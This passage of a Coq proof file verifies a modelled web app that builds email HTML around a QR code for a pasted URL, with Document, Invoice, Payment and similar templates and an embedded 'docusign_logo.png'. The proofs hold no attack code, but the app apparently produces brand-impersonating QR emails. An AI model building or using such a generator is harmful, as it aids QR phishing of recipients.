    destruct Hok as [H1 H2]; cbn [assemble lit_count].
  - rewrite count_sub_app_borderless by exact H1. now rewrite IH.
  - rewrite count_sub_hole by exact H1. now apply IH.
Qed.

Lemma all_chars_app f (a b : string) :
  all_chars f (a ++ b) = all_chars f a && all_chars f b.
Proof.
  induction a as [|x a IH]; cbn; [reflexivity|]. now rewrite IH, andb_assoc.
Qed.

Lemma all_chars_nochar f c (s : string) :
  f c = false -> all_chars f s = true -> nochar c s = true.
Proof.
  intros Hc. induction s as [|d s IH]; cbn; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hd Hs]. rewrite (IH Hs), andb_true_r.
  apply negb_true_iff, Ascii.eqb_neq. intros E. subst d. congruence.
Qed.

Lemma attr_safe_clean v : all_chars attr_safe v = true -> clean v.
Proof.
  intros H. repeat split; (apply (all_chars_nochar attr_safe); [reflexivity | exact H]).
Qed.

Lemma embeddable_split v :
  embeddable v = true -> exists r, v = "data:" ++ r /\ clean r.
Proof.
  unfold embeddable. intros H. apply andb_true_iff in H as [Hp Hc].
  destruct (starts_with_split _ _ Hp) as [r ->].
  exists r. split; [reflexivity|]. apply attr_safe_clean.
  rewrite all_chars_app in Hc. now apply andb_true_iff in Hc as [_ Hr].
Qed.

Lemma string_of_uint_digits d :
  all_chars digit_or_minus (NilEmpty.string_of_uint d) = true.
Proof.
  induction d; cbn [NilEmpty.string_of_uint all_chars]; try rewrite IHd; reflexivity.
Qed.

Lemma Number_toString_clean z : clean (JS.Number_toString z).
Proof.
  assert (H : all_chars digit_or_minus (JS.Number_toString z) = true).
  { unfold JS.Number_toString, NilZero.string_of_int.
    destruct (Z.to_int z) as [d|d]; cbn [all_chars];
      (destruct d; [reflexivity | apply string_of_uint_digits ..]). }
  repeat split; (apply (all_chars_nochar digit_or_minus); [reflexivity | exact H]).
Qed.

(** The texts [config] can select. *)
Lemma config_cases t :
  In (Part000.config t)
     [Part000.Entry Part000.Document; Part000.Entry Part000.Contract;
      Part000.Entry Part000.Invoice; Part000.Entry Part000.Statement;
      Part000.Entry Part000.Payment; Part000.Inherited t].
Proof.
  unfold Part000.config, Part000.templateConfig_get, Part000.templateConfig.
  cbn [Part000.own_property].
  repeat match goal with
  | |- context [("Document" =? t)%string] => destruct ("Document" =? t)%string
  | |- context [("Contract" =? t)%string] => destruct ("Contract" =? t)%string
  | |- context [("Invoice" =? t)%string] => destruct ("Invoice" =? t)%string
  | |- context [("Statement" =? t)%string] => destruct ("Statement" =? t)%string
  | |- context [("Payment" =? t)%string] => destruct ("Payment" =? t)%string
  end; try (cbn; tauto).
  destruct (existsb (String.eqb t) JS.Object_prototype_keys); cbn; tauto.
Qed.

Lemma config_texts_clean t :
  clean (Part000.config_header (Part000.config t))
  /\ clean (Part000.config_cta (Part000.config t)).
Proof.
  pose proof (config_cases t) as H. cbn [In] in H.
  repeat (destruct H as [H|H]; [rewrite <- H; repeat split|]).
  contradiction.
Qed.

Lemma readBase64_embeddable env fn :
  Env_embeds env -> embeddable (readBase64 env fn) = true.
Proof.
  intros (_ & _ & Hfs). unfold embeddable, readBase64.
  rewrite all_chars_app, (Hfs fn). reflexivity.
Qed.

Ltac count_pieces :=
  rewrite !count_sub_assemble;
  [ vm_compute; reflexivity
  | cbn [pieces_ok]; repeat split; first [assumption | vm_compute; reflexivity] .. ].

Ltac count_all Hdoc :=
  unfold alt_count, embedded_img_count, img_count, placeholder_tokens,
    embedded_img_tag, img_tag, external_tags;
  rewrite ?Hdoc;
  repeat match goal with
  | |- _ /\ _ => split
  | |- Forall _ (_ :: _) => constructor
  | |- Forall _ [] => constructor
  | |- count_sub _ _ = _ => count_pieces
  end.

(** The template literal of [part_000] piece by piece, with a logo row... *)
Lemma document_pieces_logo c y q l :
  Part000.document c y ("data:" ++ q) (Some ("data:" ++ l))
  = assemble
      [Lit Part000.doc_head; Hole (Part000.config_header c);
       Lit (Part000.doc_before_logo ++ Part000.logo_open ++ "data:"); Hole l;
       Lit (Part000.logo_close ++ Part000.doc_before_heading);
       Hole (Part000.config_header c);
       Lit (Part000.doc_before_qr ++ "data:"); Hole q;
       Lit Part000.doc_before_cta; Hole (Part000.config_cta c);
       Lit Part000.doc_before_year; Hole (JS.Number_toString y);
       Lit Part000.doc_tail].
Proof.
  unfold Part000.document, Part000.logo_block.
  change (JS.truthy ("data:" ++ l)) with true. cbn iota.
  cbn [assemble]. rewrite !app_assoc_s, app_nil_r_s. reflexivity.
Qed.

(** ... and without one. *)
Lemma document_pieces_plain c y q logo :
  Part000.logo_block logo = "" ->
  Part000.document c y ("data:" ++ q) logo
  = assemble
      [Lit Part000.doc_head; Hole (Part000.config_header c);
       Lit (Part000.doc_before_logo ++ Part000.doc_before_heading);
       Hole (Part000.config_header c);
       Lit (Part000.doc_before_qr ++ "data:"); Hole q;
       Lit Part000.doc_before_cta; Hole (Part000.config_cta c);
       Lit Part000.doc_before_year; Hole (JS.Number_toString y);
       Lit Part000.doc_tail].
Proof.
  intros Hl. unfold Part000.document. rewrite Hl.
  change ("" ++ Part000.doc_before_heading) with Part000.doc_before_heading.
  cbn [assemble]. rewrite !app_assoc_s, app_nil_r_s. reflexivity.
Qed.

Lemma document_holds_qr_image c y qr logo :
  exists pre post,
    Part000.document c y qr logo = pre ++ image "QR Code" qr ++ post.
Proof.
  set (n := String.length Part000.doc_before_qr - String.length img_open).
  set (x := substring 0 n Part000.doc_before_qr).
  set (m := String.length (image "QR Code" "") - String.length img_open).
  set (z := substring m (String.length Part000.doc_before_cta - m)
              Part000.doc_before_cta).
  assert (Hx : Part000.doc_before_qr = x ++ img_open)
    by (vm_compute; reflexivity).
  assert (Hz : Part000.doc_before_cta
               = String JS.dquote
                   (" alt=" ++ String JS.dquote ("QR Code" ++ String JS.dquote ""))
                 ++ z)
    by (vm_compute; reflexivity).
  exists (Part000.doc_head ++ Part000.config_header c ++ Part000.doc_before_logo
          ++ Part000.logo_block logo ++ Part000.doc_before_heading
          ++ Part000.config_header c ++ x),
         (z ++ Part000.config_cta c ++ Part000.doc_before_year
          ++ JS.Number_toString y ++ Part000.doc_tail).
  unfold Part000.document, image. rewrite Hx, Hz.
  clearbody x z. rewrite !app_assoc_s. reflexivity.
Qed.

Lemma document_valid t y qr logo :
  embeddable qr = true ->
  (JS.truthy_opt logo = true -> exists l, logo = Some l /\ embeddable l = true) ->
  valid_document "QR Code" qr (Part000.document (Part000.config t) y qr logo).
Proof.
  intros Hqr Hlogo.
  split; [apply document_holds_qr_image|].
  destruct (embeddable_split _ Hqr) as (q & -> & (Hq1 & Hq2 & Hq3 & Hq4)).
  destruct (config_texts_clean t) as [(Hh1 & Hh2 & Hh3 & Hh4) (Hc1 & Hc2 & Hc3 & Hc4)].
  destruct (Number_toString_clean y) as (Hy1 & Hy2 & Hy3 & Hy4).
  destruct (JS.truthy_opt logo) eqn:Ht.
  - destruct (Hlogo eq_refl) as (l & -> & Hl).
    destruct (embeddable_split _ Hl) as (l' & -> & (Hl1 & Hl2 & Hl3 & Hl4)).
    pose proof (document_pieces_logo (Part000.config t) y q l') as Hdoc.
    count_all Hdoc.
  - assert (Hblock : Part000.logo_block logo = "").
    { destruct logo as [l|]; [|reflexivity]. cbn in Ht. cbn. now rewrite Ht. }
    pose proof (document_pieces_plain (Part000.config t) y q logo Hblock) as Hdoc.
    count_all Hdoc.
Qed.

(** The template literal of [index.tsx] piece by piece. *)
Lemma index_pieces env qr q :
  qr = "data:" ++ q ->
  PagesIndex.buildEmailHtml env (PagesIndex.getStaticProps env) qr
  = assemble
      [Lit (PagesIndex.doc_before_logo ++ "data:image/png;base64,");
       Hole (fs_readFile_base64 env "docusign_logo.png");
       Lit (PagesIndex.doc_before_icon ++ "data:image/png;base64,");
       Hole (fs_readFile_base64 env "doc_icon.png");
       Lit (PagesIndex.doc_before_qr ++ "data:"); Hole q;
       Lit PagesIndex.doc_before_year;
       Hole (JS.Number_toString (Date_getFullYear env));
       Lit PagesIndex.doc_tail].
Proof.
  intros ->. unfold PagesIndex.buildEmailHtml, PagesIndex.getStaticProps, readBase64.
  cbn [PagesIndex.logoDataUri PagesIndex.iconDataUri assemble].
  rewrite !app_assoc_s, app_nil_r_s. reflexivity.
Qed.



End ScanFacts.

(** Whatever the page has been through, its local logo is a data URL. *)
Lemma reachable_local_ok env props w :
  Env_embeds env -> Part000.reachable env props w -> Part000.local_ok (state w).
Proof.
  intros Henv Hreach. induction Hreach as [clip | w ev Hreach IH Hen].
  - intros H. discriminate H.
  - unfold Part000.step. destruct ev; cbn [Part000.handler].
    + exact IH.
    + exact IH.
    + unfold Part000.handleFileChange. destruct (Part000.first_file files); exact IH.
    + intros H. discriminate H.
    + destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
      * destruct (handleGenerate_run env props w Hurl) as (? & ? & ? & _ & _ & _ & Hgen).
        rewrite Hgen.
        destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions); exact IH.
      * unfold Part000.handleGenerate. rewrite Hurl. exact IH.
    + unfold Part000.handleCopy.
      destruct (clipboard_writeText env (Part000.html (state w))); exact IH.
    + unfold Part000.reader_onloadend.
      destruct (nth_error (readers w) i) as [file|]; [|exact IH].
      intros H. cbn in H |- *.
      destruct (FileReader_readAsDataURL env (file_blob file)) as [l|] eqn:E;
        [|discriminate H].
      exists l. split; [reflexivity|]. destruct Henv as (Hread & _). exact (Hread _ _ E).
    + unfold Part000.timer_fires. destruct (timers w); exact IH.
Qed.

Lemma customLogo_ok env s (w0 w1 : Part000.World) custom :
  Env_embeds env -> Part000.local_ok s ->
  Part000.customLogoDataUri env s w0 = (inr custom, w1) ->
  JS.truthy_opt custom = true ->
  exists l, custom = Some l /\ Scan.embeddable l = true.
Proof.
  intros (Hread & _) Hloc. unfold Part000.customLogoDataUri.
  destruct (JS.truthy_opt (Part000.localLogoDataUri s)) eqn:Hl.
  - intros H. inversion H. subst. intros _. exact (Hloc Hl).
  - destruct (JS.truthy (Part000.logoUrl s)).
    + unfold Part000.fetchLogoDataUri. run_monad.
      destruct (fetch env (Part000.logoUrl s)) as [res|]; run_monad;
        [|intros H; inversion H; subst; discriminate].
      destruct (response_body res) as [b|]; run_monad;
        [|intros H; inversion H; subst; discriminate].
      destruct (FileReader_readAsDataURL env b) as [l|] eqn:E; run_monad;
        intros H; inversion H; subst; [|discriminate].
      intros _. exists l. split; [reflexivity | exact (Hread _ _ E)].
    + intros H. inversion H. subst. discriminate.
Qed.

Lemma sample_env_embeds : Env_embeds Sample.env.
Proof.
  repeat split.
  - intros b s H. injection H as <-. reflexivity.
  - intros text o s H. cbn in H.
    destruct (Nat.leb (String.length text) Sample.capacity);
      [injection H as <-; reflexivity | discriminate H].
Qed.

(** ** Logo resolution *)

Section RenderedFacts.

Local Open Scope string_scope.

(** Whatever is substituted, the template literal of [part_000] gives a
    complete document around the QR image. *)
Lemma buildEmailHtml_rendered env t qr logo :
  rendered_document qr (Part000.buildEmailHtml env t qr logo).
Proof.
  unfold Part000.buildEmailHtml. repeat split.
  - set (z := substring 0 (String.length Part000.doc_tail - 7) Part000.doc_tail).
    assert (Hz : Part000.doc_tail = z ++ "</html>") by (vm_compute; reflexivity).
    exists (Part000.doc_head ++ Part000.config_header (Part000.config t)
            ++ Part000.doc_before_logo ++ Part000.logo_block logo
            ++ Part000.doc_before_heading
            ++ Part000.config_header (Part000.config t)
            ++ Part000.doc_before_qr ++ qr ++ Part000.doc_before_cta
            ++ Part000.config_cta (Part000.config t) ++ Part000.doc_before_year
            ++ JS.Number_toString (Date_getFullYear env) ++ z).
    unfold Part000.document. rewrite Hz. clearbody z.
    rewrite !app_assoc_s. reflexivity.
  - apply document_holds_qr_image.
Qed.

End RenderedFacts.

(** C3, as the code has it.  A generation that succeeds renders the logo
    chosen by this precedence: (1) a local image whose data has been read
    into [localLogoDataUri] is used as it is and no request is made; (2)
    otherwise, when a remote URL is given and fetching it yields image data,
    that data is used; (3) when that fetch fails, the warning is raised, the
    handler does not throw, generation goes on and stores a valid document: a
    complete document around the QR image, whose logo is the one of rule (4),
    and which passes every check of [valid_document] when the QR image and
    that logo are [data:] URIs; (4) with neither source, the logo is the
    built-in default image for the template Document and none for every
    other template. *)
Theorem C3_logo_resolution :
  forall env props (w : Part000.World) qr,
    let s := state w in
    let w' := snd (Part000.handleGenerate env props w) in
    let builtin :=
      if (Part000.template s =? "Document")%string
      then Some (Part000.defaultLogoDataUri props) else None in
    JS.truthy (Part000.url s) = true ->
    QRCode_toDataURL env (Part000.url s) qrOptions = inr qr ->
    (JS.truthy_opt (Part000.localLogoDataUri s) = true ->
       Part000.html (state w')
       = Part000.buildEmailHtml env (Part000.template s) qr (Part000.localLogoDataUri s)
       /\ alerts w' = alerts w
       /\ calls w' = calls w ++ [CallToDataURL (Part000.url s) qrOptions])
    /\ (JS.truthy_opt (Part000.localLogoDataUri s) = false ->
        JS.truthy (Part000.logoUrl s) = true ->
        forall v w0,
          fst (Part000.fetchLogoDataUri env (Part000.logoUrl s) w0) = inr v ->
          JS.truthy v = true ->
          Part000.html (state w')
          = Part000.buildEmailHtml env (Part000.template s) qr (Some v)
          /\ alerts w' = alerts w)
    /\ (JS.truthy_opt (Part000.localLogoDataUri s) = false ->
        JS.truthy (Part000.logoUrl s) = true ->
        forall e w0,
          fst (Part000.fetchLogoDataUri env (Part000.logoUrl s) w0) = inl e ->
          fst (Part000.handleGenerate env props w) = inr tt
          /\ Part000.html (state w')
             = Part000.buildEmailHtml env (Part000.template s) qr builtin
          /\ alerts w' = alerts w ++ [Part000.fetch_warning]
          /\ rendered_document qr (Part000.html (state w'))
          /\ (Scan.embeddable qr = true ->
              (forall d, builtin = Some d -> Scan.embeddable d = true) ->
              Scan.valid_document "QR Code" qr (Part000.html (state w'))))
    /\ (JS.truthy_opt (Part000.localLogoDataUri s) = false ->
        JS.truthy (Part000.logoUrl s) = false ->
        Part000.html (state w')
        = Part000.buildEmailHtml env (Part000.template s) qr builtin
        /\ alerts w' = alerts w
        /\ calls w' = calls w ++ [CallToDataURL (Part000.url s) qrOptions]).
Proof.
  intros env props w qr s w' builtin Hurl Hqr. subst s w'.
  repeat apply conj.
  - intros Hl.
    generate_with Hurl (customLogo_local env (state w) w Hl) Hqr.
    unfold Part000.logoToUse, JS.or_else. rewrite Hl. repeat split.
  - intros Hl Hu v w0 Hf Hv.
    generate_with Hurl (customLogo_fetched env (state w) w w0 v Hl Hu Hf) Hqr.
    unfold Part000.logoToUse, JS.or_else. cbn [JS.truthy_opt]. rewrite Hv.
    repeat split.
  - intros Hl Hu e w0 Hf.
    assert (Hgen :
      Part000.handleGenerate env props w
      = (inr tt,
         mkWorld
           (Part000.setCopyStatus idle
              (Part000.setHtml
                 (Part000.buildEmailHtml env (Part000.template (state w)) qr builtin)
                 (state w)))
           (alerts w ++ [Part000.fetch_warning]) (console w)
           ((calls w ++ [CallFetch (Part000.logoUrl (state w))])
            ++ [CallToDataURL (Part000.url (state w)) qrOptions])
           (clipboard w) (readers w) (timers w))).
    { generate_with Hurl (customLogo_failed env (state w) w w0 e Hl Hu Hf) Hqr.
      reflexivity. }
    rewrite Hgen.
    cbn [fst snd state alerts Part000.html Part000.setHtml Part000.setCopyStatus].
    split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
    split; [apply buildEmailHtml_rendered|].
    intros Hq Hd. unfold Part000.buildEmailHtml. apply document_valid; [exact Hq|].
    intros Ht. destruct builtin as [d|]; [|discriminate Ht].
    exists d. split; [reflexivity | exact (Hd d eq_refl)].
  - intros Hl Hu.
    generate_with Hurl (customLogo_none env (state w) w Hl Hu) Hqr.
    repeat split.
Qed.

Lemma C3_witness :
  let generated evs :=
    snd (Part000.handleGenerate Sample.env Sample.props (Sample.after evs)) in
  let with_file := [Part000.UrlInput Sample.doc_url;
                    Part000.TemplateSelect "Invoice";
                    Part000.FileInput (Some [Sample.logo_file]);
                    Part000.ReaderLoadEnd 0] in
  let with_live_url := [Part000.UrlInput Sample.doc_url;
                        Part000.TemplateSelect "Invoice";
                        Part000.LogoUrlInput Sample.live_logo_url] in
  let with_dead_url := [Part000.UrlInput Sample.doc_url;
                        Part000.LogoUrlInput Sample.dead_logo_url] in
  let with_none := [Part000.UrlInput Sample.doc_url;
                    Part000.TemplateSelect "Invoice"] in
  (Part000.html (state (generated with_file))
   = Part000.buildEmailHtml Sample.env "Invoice" Sample.qr_png (Some Sample.png)
   /\ alerts (generated with_file) = [])
  /\ (Part000.html (state (generated with_live_url))
      = Part000.buildEmailHtml Sample.env "Invoice" Sample.qr_png (Some Sample.png)
      /\ alerts (generated with_live_url) = [])
  /\ (Part000.html (state (generated with_dead_url))
      = Part000.buildEmailHtml Sample.env "Document" Sample.qr_png
          (Some (Part000.defaultLogoDataUri Sample.props))
      /\ alerts (generated with_dead_url) = [Part000.fetch_warning]
      /\ rendered_document Sample.qr_png (Part000.html (state (generated with_dead_url)))
      /\ Scan.valid_document "QR Code" Sample.qr_png
           (Part000.html (state (generated with_dead_url))))
  /\ (Part000.html (state (generated with_none))
      = Part000.buildEmailHtml Sample.env "Invoice" Sample.qr_png None
      /\ alerts (generated with_none) = []).
Proof.
  cbv zeta. split; [|split; [|split]].
  - destruct (proj1 (C3_logo_resolution Sample.env Sample.props
                       (Sample.after [Part000.UrlInput Sample.doc_url;
                                      Part000.TemplateSelect "Invoice";
                                      Part000.FileInput (Some [Sample.logo_file]);
                                      Part000.ReaderLoadEnd 0])
                       Sample.qr_png eq_refl eq_refl) eq_refl)
      as (Hhtml & Halerts & _).
    split; [exact Hhtml | exact Halerts].
  - exact (proj1 (proj2 (C3_logo_resolution Sample.env Sample.props
                           (Sample.after [Part000.UrlInput Sample.doc_url;
                                          Part000.TemplateSelect "Invoice";
                                          Part000.LogoUrlInput Sample.live_logo_url])
                           Sample.qr_png eq_refl eq_refl))
             eq_refl eq_refl Sample.png (Part000.initialWorld "")
             eq_refl eq_refl).
  - destruct (proj1 (proj2 (proj2 (C3_logo_resolution Sample.env Sample.props
                       (Sample.after [Part000.UrlInput Sample.doc_url;
                                      Part000.LogoUrlInput Sample.dead_logo_url])
                       Sample.qr_png eq_refl eq_refl)))
                eq_refl eq_refl "TypeError: Failed to fetch"
                (Part000.initialWorld "") eq_refl)
      as (_ & Hhtml & Halerts & Hrendered & Hvalid).
    split; [exact Hhtml|]. split; [exact Halerts|]. split; [exact Hrendered|].
    apply Hvalid; [reflexivity|].
    intros d Hd. injection Hd as <-. reflexivity.
  - destruct (proj2 (proj2 (proj2 (C3_logo_resolution Sample.env Sample.props
                       (Sample.after [Part000.UrlInput Sample.doc_url;
                                      Part000.TemplateSelect "Invoice"])
                       Sample.qr_png eq_refl eq_refl)))
                eq_refl eq_refl)
      as (Hhtml & Halerts & _).
    split; [exact Hhtml | exact Halerts].
Defined.

(** C3 as stated fails, twice.  With the template Document, no local image
    and a remote logo URL whose fetch fails, the document is not the one
    without a logo: it carries the built-in default image.  And with a file
    chosen whose read has not completed yet, the document does not carry
    that file's image: for the template Invoice it has no logo at all. *)
Lemma C3_counterexample :
  let w := Sample.after [Part000.UrlInput Sample.doc_url;
                         Part000.LogoUrlInput Sample.dead_logo_url] in
  let s := state w in
  let w' := snd (Part000.handleGenerate Sample.env Sample.props w) in
  let v := Sample.after [Part000.UrlInput Sample.doc_url;
                         Part000.TemplateSelect "Invoice";
                         Part000.FileInput (Some [Sample.logo_file])] in
  let v' := snd (Part000.handleGenerate Sample.env Sample.props v) in
  (JS.truthy (Part000.url s) = true
   /\ QRCode_toDataURL Sample.env (Part000.url s) qrOptions = inr Sample.qr_png
   /\ JS.truthy_opt (Part000.localLogoDataUri s) = false
   /\ JS.truthy (Part000.logoUrl s) = true
   /\ fst (Part000.fetchLogoDataUri Sample.env (Part000.logoUrl s) w)
      = inl "TypeError: Failed to fetch"
   /\ Part000.html (state w')
      <> Part000.buildEmailHtml Sample.env (Part000.template s) Sample.qr_png None
   /\ Part000.html (state w')
      = Part000.buildEmailHtml Sample.env (Part000.template s) Sample.qr_png
          (Some (Part000.defaultLogoDataUri Sample.props)))
  /\ (Part000.logoFile (state v) = Some Sample.logo_file
      /\ readers v = [Sample.logo_file]
      /\ FileReader_readAsDataURL Sample.env (file_blob Sample.logo_file)
         = Some Sample.png
      /\ Part000.html (state v')
         <> Part000.buildEmailHtml Sample.env "Invoice" Sample.qr_png (Some Sample.png)
      /\ Part000.html (state v')
         = Part000.buildEmailHtml Sample.env "Invoice" Sample.qr_png None).
Proof.
  cbv zeta. split.
  - repeat split; try (vm_compute; reflexivity).
    apply String.eqb_neq. vm_compute. reflexivity.
  - repeat split; try (vm_compute; reflexivity).
    apply String.eqb_neq. vm_compute. reflexivity.
Qed.

(** ** Template keys: the fallback *)






(** * Further properties of the pages *)

(** ** Generation: what it leaves alone *)

(** However a generation ends (empty URL, logo fetch failed, QR library
    rejected, success), [handleGenerate] does not throw and changes neither
    the input cells (URL, template, logo URL, logo file, local logo data) nor
    the clipboard, the reads in flight or the timers.  Both pages. *)
Theorem handleGenerate_frame :
  (forall env props (w : Part000.World),
      let w' := snd (Part000.handleGenerate env props w) in
      fst (Part000.handleGenerate env props w) = inr tt
      /\ Part000.url (state w') = Part000.url (state w)
      /\ Part000.template (state w') = Part000.template (state w)
      /\ Part000.logoUrl (state w') = Part000.logoUrl (state w)
      /\ Part000.logoFile (state w') = Part000.logoFile (state w)
      /\ Part000.localLogoDataUri (state w') = Part000.localLogoDataUri (state w)
      /\ clipboard w' = clipboard w
      /\ readers w' = readers w
      /\ timers w' = timers w)
  /\ (forall env props (w : PagesIndex.World),
      let w' := snd (PagesIndex.handleGenerate env props w) in
      fst (PagesIndex.handleGenerate env props w) = inr tt
      /\ PagesIndex.url (state w') = PagesIndex.url (state w)
      /\ clipboard w' = clipboard w
      /\ readers w' = readers w
      /\ timers w' = timers w).
Proof.
  split; intros env props w w'; subst w'.
  - destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
    + destruct (handleGenerate_run env props w Hurl)
        as (custom & warn & cs & _ & _ & _ & Hgen).
      rewrite Hgen.
      destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
        repeat split.
    + unfold Part000.handleGenerate. rewrite Hurl. repeat split.
  - destruct (JS.truthy (PagesIndex.url (state w))) eqn:Hurl.
    + rewrite (index_handleGenerate_run env props w Hurl).
      destruct (QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions);
        repeat split.
    + unfold PagesIndex.handleGenerate. rewrite Hurl. repeat split.
Qed.

(** Pressing Generate twice in a row shows what pressing it once shows: the
    state after the second generation is the state after the first.  Both
    pages. *)
Theorem handleGenerate_idempotent :
  (forall env props (w : Part000.World),
      let w1 := snd (Part000.handleGenerate env props w) in
      state (snd (Part000.handleGenerate env props w1)) = state w1)
  /\ (forall env props (w : PagesIndex.World),
      let w1 := snd (PagesIndex.handleGenerate env props w) in
      state (snd (PagesIndex.handleGenerate env props w1)) = state w1).
Proof.
  split; intros env props w w1.
  - destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
    + destruct (handleGenerate_run env props w Hurl)
        as (custom & warn & cs & Hrun & _ & _ & Hgen).
      destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions)
        as [e|qr] eqn:Hqr.
      * assert (Hs : state w1 = state w) by (unfold w1; rewrite Hgen; reflexivity).
        clearbody w1.
        assert (Hurl1 : JS.truthy (Part000.url (state w1)) = true)
          by (rewrite Hs; exact Hurl).
        destruct (handleGenerate_run env props w1 Hurl1)
          as (? & ? & ? & _ & _ & _ & Hgen1).
        rewrite Hgen1, Hs, Hqr. reflexivity.
      * assert (Hs : state w1
                     = Part000.setCopyStatus idle
                         (Part000.setHtml
                            (Part000.buildEmailHtml env (Part000.template (state w)) qr
                               (Part000.logoToUse props (state w) custom))
                            (state w)))
          by (unfold w1; rewrite Hgen; reflexivity).
        clearbody w1.
        assert (Hurl1 : JS.truthy (Part000.url (state w1)) = true)
          by (rewrite Hs; exact Hurl).
        destruct (handleGenerate_run env props w1 Hurl1)
          as (custom1 & ? & ? & Hrun1 & _ & _ & Hgen1).
        assert (Hsame : custom1 = custom).
        { specialize (Hrun1 w).
          rewrite (customLogo_frame env (state w) (state w1)) in Hrun1
            by (rewrite Hs; reflexivity).
          rewrite (Hrun w) in Hrun1. now inversion Hrun1. }
        subst custom1. rewrite Hgen1.
        replace (Part000.url (state w1)) with (Part000.url (state w))
          by (rewrite Hs; reflexivity).
        rewrite Hqr. cbn [snd state]. rewrite Hs. reflexivity.
    + assert (Hs : w1 = mkWorld (state w) (alerts w ++ ["Please paste a URL first."])
                          (console w) (calls w) (clipboard w) (readers w) (timers w))
        by (unfold w1, Part000.handleGenerate; rewrite Hurl; reflexivity).
      clearbody w1. subst w1. unfold Part000.handleGenerate.
      cbn [state]. rewrite Hurl. reflexivity.
  - destruct (JS.truthy (PagesIndex.url (state w))) eqn:Hurl.
    + assert (Hw1 : w1 = snd (PagesIndex.handleGenerate env props w)) by reflexivity.
      rewrite (index_handleGenerate_run env props w Hurl) in Hw1.
      destruct (QRCode_toDataURL env (PagesIndex.url (state w)) qrOptions)
        as [e|qr] eqn:Hqr; cbn [snd] in Hw1; clearbody w1; subst w1;
        rewrite index_handleGenerate_run by exact Hurl;
        cbn [state PagesIndex.url PagesIndex.setCopyStatus PagesIndex.setHtml];
        rewrite Hqr; reflexivity.
    + assert (Hs : w1 = mkWorld (state w) (alerts w ++ ["Please paste a URL first."])
                          (console w) (calls w) (clipboard w) (readers w) (timers w))
        by (unfold w1, PagesIndex.handleGenerate; rewrite Hurl; reflexivity).
      clearbody w1. subst w1. unfold PagesIndex.handleGenerate.
      cbn [state]. rewrite Hurl. reflexivity.
Qed.

(** ** Fetching a remote logo *)

(** [fetchLogoDataUri] records one request and touches nothing else; it
    resolves with [v] exactly when the request is answered, the body arrives
    and reading the body as a data URL gives [v], and rejects at whichever of
    the three stages fails. *)
Theorem fetchLogoDataUri_outcome :
  forall env u (w : Part000.World),
    snd (Part000.fetchLogoDataUri env u w)
    = mkWorld (state w) (alerts w) (console w) (calls w ++ [CallFetch u])
              (clipboard w) (readers w) (timers w)
    /\ (forall v,
          fst (Part000.fetchLogoDataUri env u w) = inr v
          <-> exists res b,
                fetch env u = Some res
                /\ response_body res = Some b
                /\ FileReader_readAsDataURL env b = Some v)
    /\ ((exists e, fst (Part000.fetchLogoDataUri env u w) = inl e)
        <-> fetch env u = None
            \/ (exists res, fetch env u = Some res /\ response_body res = None)
            \/ (exists res b, fetch env u = Some res /\ response_body res = Some b
                              /\ FileReader_readAsDataURL env b = None)).
Proof.
  intros env u w. unfold Part000.fetchLogoDataUri. run_monad.
  destruct (fetch env u) as [res|] eqn:Hf; run_monad.
  - destruct (response_body res) as [b|] eqn:Hb; run_monad.
    + destruct (FileReader_readAsDataURL env b) as [v0|] eqn:Hr; run_monad;
        cbn [fst snd]; (split; [reflexivity|]); split.
      * intros v. split.
        -- intros H. injection H as <-. exists res, b. auto.
        -- intros (res' & b' & H1 & H2 & H3). congruence.
      * split.
        -- intros [e H]. discriminate H.
        -- intros [H | [(res' & H1 & H2) | (res' & b' & H1 & H2 & H3)]];
             congruence.
      * intros v. split.
        -- intros H. discriminate H.
        -- intros (res' & b' & H1 & H2 & H3). congruence.
      * split.
        -- intros _. right. right. exists res, b. auto.
        -- intros _. eexists. reflexivity.
    + cbn [fst snd]. split; [reflexivity|]. split.
      * intros v. split.
        -- intros H. discriminate H.
        -- intros (res' & b' & H1 & H2 & H3). congruence.
      * split.
        -- intros _. right. left. exists res. auto.
        -- intros _. eexists. reflexivity.
  - cbn [fst snd]. split; [reflexivity|]. split.
    + intros v. split.
      * intros H. discriminate H.
      * intros (res' & b' & H1 & H2 & H3). congruence.
    + split.
      * intros _. now left.
      * intros _. eexists. reflexivity.
Qed.

(** ** Copying *)

(** When the clipboard refuses the write, [handleCopy] has asked for it and
    done nothing else: the state (copy status included), the clipboard and
    the timers are as before and no alert is raised.  Both pages. *)
Theorem handleCopy_refused :
  (forall env (w : Part000.World),
      clipboard_writeText env (Part000.html (state w)) = false ->
      Part000.handleCopy env w
      = (inr tt,
         mkWorld (state w) (alerts w) (console w)
           (calls w ++ [CallWriteText (Part000.html (state w))])
           (clipboard w) (readers w) (timers w)))
  /\ (forall env (w : PagesIndex.World),
      clipboard_writeText env (PagesIndex.html (state w)) = false ->
      PagesIndex.handleCopy env w
      = (inr tt,
         mkWorld (state w) (alerts w) (console w)
           (calls w ++ [CallWriteText (PagesIndex.html (state w))])
           (clipboard w) (readers w) (timers w))).
Proof.
  split; intros env w Hno.
  - unfold Part000.handleCopy. run_monad. rewrite Hno. reflexivity.
  - unfold PagesIndex.handleCopy. run_monad. rewrite Hno. reflexivity.
Qed.

Lemma handleCopy_refused_witness :
  let w := Part000.run Denied.env Sample.props
             [Part000.UrlInput Sample.doc_url; Part000.GenerateClick]
             (Part000.initialWorld "kept") in
  let v := snd (PagesIndex.handleGenerate Denied.env Sample.props_index
                  (Sample.index_with_url Sample.doc_url)) in
  (clipboard (snd (Part000.handleCopy Denied.env w)) = "kept"
   /\ Part000.copyStatus (state (snd (Part000.handleCopy Denied.env w))) = idle
   /\ timers (snd (Part000.handleCopy Denied.env w)) = 0)
  /\ (clipboard (snd (PagesIndex.handleCopy Denied.env v)) = ""
      /\ PagesIndex.copyStatus (state (snd (PagesIndex.handleCopy Denied.env v))) = idle).
Proof.
  cbv zeta. split.
  - rewrite (proj1 handleCopy_refused Denied.env
               (Part000.run Denied.env Sample.props
                  [Part000.UrlInput Sample.doc_url; Part000.GenerateClick]
                  (Part000.initialWorld "kept")) eq_refl).
    repeat split.
  - rewrite (proj2 handleCopy_refused Denied.env
